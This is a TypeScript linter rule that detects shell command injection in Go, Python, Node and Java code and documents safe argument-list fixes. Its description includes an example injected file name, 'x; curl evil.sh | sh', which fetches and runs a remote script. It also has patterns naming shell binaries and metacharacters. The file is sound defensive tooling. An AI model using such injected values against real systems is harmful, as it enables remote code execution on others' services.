import type { Node } from 'web-tree-sitter';
import { defineRule, type RuleMatch, type RuleContext } from '../../engine/define-rule';
import { stringShape } from '../lib/dynamic-string';
import { inProductionCode, isFileConstantString, stringContent } from '../lib/security-context';
import { namedArgs } from '../lib/syntax';

const SHELLS = /^(\/(usr\/)?bin\/)?(sh|bash|zsh|dash|ksh|cmd(\.exe)?|powershell(\.exe)?|pwsh)$/;
const SHELL_FLAG = /^(-c|\/c|\/C|-Command|-lc|-ec)$/;
/** Quoting helpers: a command built with them is escaped on purpose. */
const QUOTED = /\b(shlex\.(quote|join)|pipes\.quote|shellescape|shell-quote|shellQuote|quote\(|ShellQuote|escapeShellArg)/;

const JS = `
  (call_expression
    function: [(member_expression property: (property_identifier) @fn) (identifier) @fn]
    arguments: (arguments . (_) @report)
    (#any-of? @fn "exec" "execSync")) @match`;

/** The command string handed to a shell, or undefined when this call does not go through one. */
function shellCommand(m: RuleMatch, ctx: RuleContext): Node | undefined {
  const fn = m.text('fn');
  if (ctx.language === 'go' || (ctx.language === 'java' && m.node.type === 'object_creation_expression')) {
    const args = namedArgs(m.get('args'));
    const [shell, flag, cmd] = fn === 'CommandContext' ? args.slice(1) : args;
    return shell && flag && cmd && SHELLS.test(stringContent(shell)) && SHELL_FLAG.test(stringContent(flag)) ? cmd : undefined;
  }
  const cmd = m.get('report');
  if (!cmd) return undefined;
  if (ctx.language === 'python') {
    if (/^(list|tuple)$/.test(cmd.type)) return undefined;
    const viaShell = m.text('pkg') === 'os' || /^(getoutput|getstatusoutput)$/.test(fn)
      || namedArgs(m.get('args')).some((a) => a.type === 'keyword_argument' && a.childForFieldName('name')?.text === 'shell' && a.childForFieldName('value')?.type === 'true');
    return viaShell ? cmd : undefined;
  }
  if (ctx.language === 'java') {
    const receiver = m.get('pkg')?.text ?? '';
    const runtime = /getRuntime\(\)$/.test(receiver) || (/^\w+$/.test(receiver) && new RegExp(`\\bRuntime\\s+${receiver}\\b`).test(ctx.text));
    // exec(String[]) runs no shell and splits nothing: only a string command counts.
    const stringCommand = cmd.type === 'binary_expression' || /^String\.format\(/.test(cmd.text)
      || (cmd.type === 'identifier' && new RegExp(`\\bString\\s+${cmd.text}\\b`).test(ctx.text));
    return runtime && stringCommand ? cmd : undefined;
  }
  // JS: child_process exec/execSync, not RegExp#exec or a database's exec.
  const callee = m.node.childForFieldName('function');
  const object = callee?.type === 'member_expression' ? callee.childForFieldName('object')?.text ?? '' : '';
  const fromChildProcess = /child_process['"]/.test(ctx.text)
    && (callee?.type === 'identifier'
      ? new RegExp(`\\b${fn}\\b[^;]*\\}\\s*(=\\s*require\\(|from\\s)\\s*['"](node:)?child_process|\\b${fn}\\s*=\\s*(util\\.)?promisify\\(\\s*(require\\(['"](node:)?child_process['"]\\)|child_?process|cp)\\.exec\\b`).test(ctx.text)
      : /^(child_?process|cp|childProcess|proc)$/i.test(object));
  return fromChildProcess ? cmd : undefined;
}

/** A command line built from data and run by a shell: metacharacters in the data run commands of the attacker's choosing. */
export default defineRule({
  id: 'shell-command-injection',
  pillar: 'security',
  severity: 'error',
  languages: ['go', 'python', 'typescript', 'tsx', 'javascript', 'java'],
  title: 'Shell command built from dynamic input',
  triggers: ['exec', 'subprocess', 'os.system', 'os.popen', 'ProcessBuilder', 'commands.'],
  query: {
    go: `
      (call_expression
        function: (selector_expression operand: (identifier) @pkg field: (field_identifier) @fn)
        arguments: (argument_list) @args
        (#eq? @pkg "exec") (#any-of? @fn "Command" "CommandContext")) @match`,
    python: `
      (call
        function: (attribute object: (identifier) @pkg attribute: (identifier) @fn)
        arguments: (argument_list . (_) @report) @args
        (#any-of? @pkg "subprocess" "os")
        (#any-of? @fn "run" "call" "Popen" "check_output" "check_call" "getoutput" "getstatusoutput" "system" "popen")) @match`,
    typescript: JS,
    tsx: JS,
    javascript: JS,
    java: `
      (method_invocation object: (_) @pkg name: (identifier) @fn arguments: (argument_list . (_) @report)
        (#eq? @fn "exec")) @match
      (object_creation_expression type: (type_identifier) @fn arguments: (argument_list) @args
        (#eq? @fn "ProcessBuilder")) @match`,
  },
  filter: (m, ctx) => {
    if (!inProductionCode(ctx)) return false;
    const cmd = shellCommand(m, ctx);
    return !!cmd && stringShape(cmd).dynamic && !QUOTED.test(cmd.text) && !(cmd.type === 'identifier' && isFileConstantString(cmd.text, ctx.text));
  },
  message: (m, ctx) =>
    `${ctx.language === 'java' && m.text('fn') === 'exec' ? 'Runtime.exec' : m.text('fn')} runs a command built from dynamic input${ctx.language === 'java' && m.text('fn') === 'exec' ? '' : ' through a shell'}: a value with ; | $( ) or spaces runs or changes commands; pass the program and its arguments as a list (no shell) and validate the values`,
  description: `
A command line is assembled from data (concatenation, template literals, f-strings, \`%\`/\`format\`, \`Sprintf\`, or
a parameter) and run through a shell: Go \`exec.Command("sh", "-c", cmd)\`, Python \`subprocess.run(cmd, shell=True)\`,
\`os.system\`, \`os.popen\`, Node \`child_process.exec\`/\`execSync\`, Java \`Runtime.getRuntime().exec(cmd)\` and
\`new ProcessBuilder("sh", "-c", cmd)\`. Commands that are constants, and values passed through \`shlex.quote\` or a
shell-quote helper, are not flagged. Test files are not checked: tests stub
credentials, reproduce protocols and trust self-signed certificates on purpose.

**Why it matters in production.** The shell interprets \`;\`, \`|\`, \`&&\`, \`$(...)\`, backticks and globbing in the
data: a file name such as \`x; curl evil.sh | sh\` runs the attacker's commands with the service's identity, its
mounted secrets and its network access. \`Runtime.exec(String)\` does not use a shell but splits on spaces, so data
still adds arguments and options.

**How to fix.** Run the program directly with an argument list, so no shell parses the data:

\`\`\`go
out, err := exec.CommandContext(ctx, "convert", src, "-resize", size, dst).Output()
\`\`\`
\`\`\`python
subprocess.run(["tar", "-czf", archive, "--", path], check=True, timeout=60)
\`\`\`
\`\`\`ts
execFile('git', ['log', '--format=%H', '--', file], callback);
\`\`\`
\`\`\`java
new ProcessBuilder("git", "log", "--", file).start();
\`\`\`

Validate values against an allow-list and put \`--\` before file arguments so they cannot be read as options.

**Links.** [OWASP OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html),
[CWE-78](https://cwe.mitre.org/data/definitions/78.html), [Bandit B602](https://bandit.readthedocs.io/en/latest/plugins/b602_subprocess_popen_with_shell_equals_true.html).
`,
});
